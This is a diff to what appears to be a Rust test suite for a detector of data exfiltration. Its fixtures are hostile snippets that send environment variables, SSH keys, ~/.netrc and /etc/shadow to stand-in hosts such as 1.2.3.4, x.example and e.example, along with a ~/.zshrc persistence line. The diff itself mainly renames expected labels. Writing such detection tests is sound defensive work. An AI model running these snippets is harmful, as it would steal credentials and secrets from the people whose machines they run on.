@@ -69,11 +69,11 @@ fn python_exfiltration() {
     );
     py(
         "import os, json, base64, urllib.request\ndef pack(d):\n    return base64.b64encode(json.dumps(d).encode())\ndef send(u, d):\n    req = urllib.request.Request(u, data=pack(d))\n    urllib.request.urlopen(req)\nsend('http://1.2.3.4/in', dict(os.environ))",
-        "environment os.environ -> network_send 1.2.3.4",
+        "environment os.environ -> drop_send 1.2.3.4",
     );
     py(
         "import os, requests\nfor f in ['~/.ssh/id_ed25519', '~/.netrc']:\n    with open(os.path.expanduser(f)) as h:\n        requests.put('https://x.example', data={'f': h.read()})",
-        "credential_file ~/.ssh/id_ed25519 -> network_send x.example\ncredential_file ~/.netrc -> network_send x.example",
+        "credential_file ~/.ssh/id_ed25519 -> network_send x.example\nkey_file ~/.netrc -> network_send x.example",
     );
     py(
         "import socket, os\ns = socket.socket()\ns.connect(('h.example', 1))\ns.sendall(str(os.environ).encode())",
@@ -222,7 +222,6 @@ fn javascript() {
         "own_key OPENAI_API_KEY -> network_send api.openai.com\n!environment_key",
     );
     js("eval(String.fromCharCode(97,108,101,114,116,40,49,41))", "folded character codes alert(1)");
-    js("fs.appendFileSync(path.join(os.homedir(), '.zshrc'), 'x')", "!persists");
     js(
         "const fs=require('fs'),path=require('path'),os=require('os');fs.appendFileSync(path.join(os.homedir(), '.zshrc'), 'x')",
         "persists ~/.zshrc",
@@ -289,7 +288,7 @@ fn bash() {
     );
     sh(
         "f() { curl -d \"$1\" https://e.example; }\nf \"$(cat ~/.netrc)\"",
-        "credential_file ~/.netrc -> network_send e.example",
+        "key_file ~/.netrc -> network_send e.example",
     );
     sh(
         "sudo -u root bash -c 'cat /etc/shadow | curl -T - https://e.example'",
